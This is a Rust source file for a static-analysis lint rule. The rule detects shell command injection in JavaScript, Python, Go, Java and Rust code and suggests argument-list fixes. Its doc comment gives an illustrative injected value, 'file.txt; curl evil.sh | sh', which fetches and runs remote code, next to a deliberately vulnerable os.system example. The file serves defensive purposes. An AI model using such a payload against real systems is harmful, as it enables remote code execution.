//! `input-validation/command-injection`: a shell command line built from values.
//!
//! ## What it does
//! Finds a command line that a shell will parse, assembled at run time with a
//! value that is not a constant:
//! - JavaScript/TypeScript (files that use `child_process`): `exec`/`execSync`
//!   (and promisified `execAsync`/`execPromise`) with a template literal or
//!   `+` concatenation, and `spawn`/`spawnSync`/`execFile` with
//!   `{ shell: true }`;
//! - Python: `os.system`, `os.popen`, `subprocess.getoutput`,
//!   `asyncio.create_subprocess_shell`, and `subprocess.run`/`call`/
//!   `check_call`/`check_output`/`Popen` with `shell=True`, given an f-string,
//!   `%`, `.format()` or `+`;
//! - Go: `exec.Command("sh", "-c", …)` / `exec.CommandContext(ctx, "bash", "-c", …)`;
//! - Java: `Runtime.getRuntime().exec(…)` and `new ProcessBuilder("sh", "-c", …)`;
//! - Rust: `Command::new("sh").arg("-c").arg(format!(…))` and
//!   `.args(["-c", &cmd])`.
//!
//! The command may be held in a local variable first. The finding is an
//! **error** when a spliced value is request data in the same handler (see
//! `input-validation/sql-injection` for what counts), a **warning** otherwise.
//!
//! Not reported: argument vectors without a shell (`execFile("git", ["log",
//! ref])`, `subprocess.run(["git", "log", ref])`, `exec.Command("git", "log",
//! ref)`), constant command lines, values passed through a quoting function
//! (`shlex.quote`, `shellescape`, `escapeShellArg`, `shell-quote`), and
//! `shell=True` with a command that is not built in the same function.
//!
//! ## Why is this bad?
//! The shell parses the whole line, so a value containing `;`, `&&`, `|`,
//! `$(…)` or a backtick runs commands of its own with the service's
//! privileges: `file.txt; curl evil.sh | sh`. Passing the program and its
//! arguments as a list, without a shell, makes every value one argument.
//!
//! ## Example
//! ```py
//! filename = request.args["file"]
//! os.system(f"convert uploads/{filename} -resize 200x200 thumbs/{filename}")
//! ```
//!
//! Use instead:
//! ```py
//! filename = request.args["file"]
//! subprocess.run(
//!     ["convert", f"uploads/{filename}", "-resize", "200x200", f"thumbs/{filename}"],
//!     check=True,
//! )
//! ```

use tree_sitter::Node;

use super::built::{
    BuiltString, RequestData, Value, argument_nodes, call_kinds, call_parts, resolve,
};
use crate::context::RuleContext;
use crate::model::{ChecklistItem, Finding, Language, RuleMeta, Severity};
use crate::rules::{Rule, quote};
use crate::syntax::NodeExt as _;

pub static META: RuleMeta = RuleMeta {
    id: "input-validation/command-injection",
    item: ChecklistItem::InputValidation,
    severity: Severity::Warning,
    languages: &[
        Language::TypeScript,
        Language::Tsx,
        Language::JavaScript,
        Language::Python,
        Language::Go,
        Language::Rust,
        Language::Java,
    ],
    summary: "A shell command line built from non-constant values (exec, os.system, shell=True, sh -c)",
};

pub struct CommandInjection;

impl Rule for CommandInjection {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check(&self, ctx: &RuleContext<'_>, out: &mut Vec<Finding>) {
        let (Some(_), Some(language)) = (ctx.root(), ctx.language) else {
            return;
        };
        if language.is_js_family() && !ctx.source.contains("child_process") {
            return;
        }
        let kinds: &[&str] = match language {
            Language::Java => &[
                "object_creation_expression",
                "method_invocation",
                "call_expression",
            ],
            _ => call_kinds(language),
        };
        for node in ctx.nodes_in_order(kinds) {
            let Some((api, command)) = shell_command(ctx, language, node) else {
                continue;
            };
            let Some(built) = resolve(ctx, language, command) else {
                continue;
            };
            if let Some(finding) = report(ctx, language, node, &api, &built) {
                out.push(finding);
            }
        }
    }
}

fn is_shell(text: &str) -> bool {
    let name = text.trim_matches(['"', '\'', '`']);
    let name = name.rsplit('/').next().unwrap_or(name);
    matches!(
        name,
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "cmd" | "cmd.exe" | "powershell" | "pwsh"
    )
}

fn is_shell_flag(text: &str) -> bool {
    matches!(
        text.trim_matches(['"', '\'', '`']),
        "-c" | "/c" | "/C" | "-Command" | "-lc"
    )
}

/// The API name and the command-line expression of a call that runs a shell.
fn shell_command<'t>(
    ctx: &RuleContext<'_>,
    language: Language,
    node: Node<'t>,
) -> Option<(String, Node<'t>)> {
    if language == Language::Java && node.kind_str() == "object_creation_expression" {
        let ty = ctx.text(node.field("type")?);
        let args = argument_nodes(node.field("arguments")?);
        if ty != "ProcessBuilder" || !shell_prefix(ctx, &args, 0) {
            return None;
        }
        return Some(("new ProcessBuilder".to_string(), *args.get(2)?));
    }
    let (receiver, method, args_node) = call_parts(language, node)?;
    let method = ctx.text(method);
    let receiver = receiver.map(|r| ctx.text(r)).unwrap_or("");
    let args = argument_nodes(args_node);
    let first = args.first().copied();
    match language {
        Language::TypeScript | Language::Tsx | Language::JavaScript => {
            let process_module = receiver.is_empty()
                || matches!(receiver, "child_process" | "cp" | "childProcess" | "proc");
            if !process_module {
                return None;
            }
            match method {
                "exec" | "execSync" | "execAsync" | "execPromise" | "execP" => {
                    Some((method.to_string(), first?))
                }
                "spawn" | "spawnSync" | "execFile" | "execFileSync" => {
                    let shell = args.iter().any(|a| {
                        a.kind_str() == "object"
                            && ctx
                                .text(*a)
                                .split_whitespace()
                                .collect::<String>()
                                .contains("shell:true")
                    });
                    if !shell {
                        return None;
                    }
                    Some((format!("{method}(…, {{ shell: true }})"), first?))
                }
                _ => None,
            }
        }
        Language::Python => {
            let qualified = format!("{receiver}.{method}");
            match qualified.as_str() {
                "os.system"
                | "os.popen"
                | "subprocess.getoutput"
                | "subprocess.getstatusoutput"
                | "asyncio.create_subprocess_shell" => Some((qualified, first?)),
                "subprocess.run"
                | "subprocess.call"
                | "subprocess.check_call"
                | "subprocess.check_output"
                | "subprocess.Popen" => {
                    let shell = args.iter().any(|a| {
                        a.kind_str() == "keyword_argument"
                            && a.field("name").is_some_and(|n| ctx.text(n) == "shell")
                            && a.field("value").is_some_and(|v| ctx.text(v) == "True")
                    });
                    let command = first.filter(|f| f.kind_str() != "keyword_argument")?;
                    shell.then(|| (format!("{qualified}(…, shell=True)"), command))
                }
                _ => None,
            }
        }
        Language::Go => {
            let skip = match (receiver, method) {
                ("exec", "Command") => 0,
                ("exec", "CommandContext") => 1,
                _ => return None,
            };
            if !shell_prefix(ctx, &args, skip) {
                return None;
            }
            Some((format!("exec.{method}"), *args.get(skip + 2)?))
        }
        Language::Java => {
            let runtime = receiver.contains("Runtime") || receiver.contains("runtime");
            if method != "exec" || !runtime {
                return None;
            }
            Some(("Runtime.exec".to_string(), first?))
        }
        Language::Rust => rust_shell_arg(ctx, node, method, &args),
        Language::Sql => None,
    }
}

/// `(…, "sh", "-c", command)` starting at `skip`.
fn shell_prefix(ctx: &RuleContext<'_>, args: &[Node<'_>], skip: usize) -> bool {
    match (args.get(skip), args.get(skip + 1)) {
        (Some(shell), Some(flag)) => is_shell(ctx.text(*shell)) && is_shell_flag(ctx.text(*flag)),
        _ => false,
    }
}

/// `.arg(cmd)` after `.arg("-c")` on `Command::new("sh")`, or
/// `.args(["-c", &cmd])` on it.
fn rust_shell_arg<'t>(
    ctx: &RuleContext<'_>,
    call: Node<'t>,
    method: &str,
    args: &[Node<'t>],
) -> Option<(String, Node<'t>)> {
    let chain = ctx.text(call);
    let on_shell = chain.contains("Command::new(")
        && chain
            .split("Command::new(")
            .nth(1)
            .and_then(|rest| rest.split(')').next())
            .is_some_and(is_shell);
    if !on_shell {
        return None;
    }
    match method {
        "arg" => {
            let receiver = ctx.text(call.field("function")?);
            let flagged = receiver.contains(".arg(\"-c\")") || receiver.contains(".arg(\"/C\")");
            let last_arg_is_flag = args.first().is_some_and(|a| is_shell_flag(ctx.text(*a)));
            if !flagged || last_arg_is_flag {
                return None;
            }
            Some((
                "Command::new(shell).arg(\"-c\").arg".to_string(),
                *args.first()?,
            ))
        }
        "args" => {
            let list = args.first()?;
            let list = if list.kind_str() == "reference_expression" {
                list.field("value")?
            } else {
                *list
            };
            let items = argument_nodes(list);
            let flag = items.iter().position(|i| is_shell_flag(ctx.text(*i)))?;
            items
                .get(flag + 1)
                .map(|c| ("Command::new(shell).args([\"-c\", …])".to_string(), *c))
        }
        _ => None,
    }
}

/// Values made safe for the shell before they are spliced in.
fn is_quoted(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    lower.contains("quote(") || lower.contains("escape")
}

fn report(
    ctx: &RuleContext<'_>,
    language: Language,
    call: Node<'_>,
    api: &str,
    built: &BuiltString<'_>,
) -> Option<Finding> {
    let values: Vec<Value<'_>> = built
        .values
        .iter()
        .copied()
        .filter(|v| !is_quoted(v.text(ctx)))
        .collect();
    let request = RequestData::for_node(ctx, language, call);
    let anchor = values
        .iter()
        .find(|v| request.contains(ctx, language, v.text(ctx)))
        .or(values.first())
        .copied()?;
    let is_request = request.contains(ctx, language, anchor.text(ctx));
    let value = quote(anchor.text(ctx), 60);
    let code = format!("{api} <- {}", anchor.text(ctx));
    let origin = if is_request {
        format!("`{value}` comes from the request, so whoever sends it chooses what runs")
    } else {
        format!("if `{value}` ever carries outside input, that input runs as shell code")
    };
    let (fix, keep) = argv_hint(language);
    let mut finding = ctx
        .finding(
            &META,
            ctx.line_at(anchor.start),
            ctx.symbol_for(anchor.node),
            &code,
        )
        .title(if is_request {
            format!("Command injection: request value `{value}` pasted into a shell command")
        } else {
            format!("Shell command built from `{value}`")
        })
        .message(format!(
            "The command line given to `{api}` is assembled from text and `{value}` and parsed \
             by a shell; {origin}. A `;`, `&&`, `|`, `$(…)` or backtick in the value starts \
             commands of its own.\n\n{fix}"
        ))
        .symptom(format!(
            "`{api}` runs a shell command line built by pasting `{value}` into it."
        ))
        .root_cause(
            "The command is a single string interpreted by a shell, and a non-constant value is \
             interpolated into it instead of being passed as a separate argument.",
        )
        .fix(format!(
            "{fix} Validate `{value}` against what it may legitimately be (an allow-list, a \
             pattern, or a path confined to its directory) before using it."
        ))
        .scope(format!(
            "Keep the same program, arguments and behaviour; {keep} Do not touch other commands \
             or unrelated code."
        ))
        .build();
    if is_request {
        finding.severity = Severity::Error;
    }
    Some(finding)
}

fn argv_hint(language: Language) -> (&'static str, &'static str) {
    match language {
        Language::TypeScript | Language::Tsx | Language::JavaScript => (
            "Run the program without a shell and pass each value as its own argument: \
             `execFile(\"git\", [\"log\", ref])` / `spawn(cmd, args)` without `shell: true`.",
            "do not add a dependency just to quote strings.",
        ),
        Language::Python => (
            "Pass an argument list without a shell: `subprocess.run([\"convert\", path, …], \
             check=True)`; if a shell is truly needed, quote each value with `shlex.quote`.",
            "do not add `shell=True` anywhere else.",
        ),
        Language::Go => (
            "Call the program directly with separate arguments: `exec.CommandContext(ctx, \
             \"tar\", \"-czf\", out, dir)` instead of `sh -c`.",
            "keep the context and error handling as they are.",
        ),
        Language::Rust => (
            "Call the program directly: `Command::new(\"tar\").args([\"-czf\", &out, &dir])` \
             instead of `sh -c`.",
            "keep the error handling as it is.",
        ),
        Language::Java => (
            "Use `new ProcessBuilder(\"tar\", \"-czf\", out, dir)` with one argument per value \
             instead of a single command string or `sh -c`.",
            "keep the process handling (streams, exit code) as it is.",
        ),
        Language::Sql => ("", ""),
    }
}
